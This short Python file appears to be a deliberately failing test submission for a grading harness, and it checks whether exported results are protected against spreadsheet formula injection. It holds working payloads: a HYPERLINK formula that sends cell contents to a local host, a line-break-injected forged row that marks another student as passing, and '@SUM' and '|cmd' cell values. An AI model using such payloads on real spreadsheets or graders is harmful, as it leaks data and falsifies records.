# fail: tries to put a formula into the teacher's spreadsheet
"""A cell that begins with `=`, `+`, `-` or `@`, also after blanks, a tab or a quote.

Commas, quotes and line ends would begin new cells and new rows, with another name.
"""

FORMULA = '=HYPERLINK("http://127.0.0.1:47474/?x="&A1,"click")'
ROW = f'"\r\nben,30,ben.py,pass,,,0,complete,9,0.1\r\n\t{FORMULA},@SUM(1),-1+1|cmd'


class Sheet(Exception):
    def __str__(self):
        return FORMULA + ROW


def run(jobs, workers):
    raise Sheet(FORMULA)
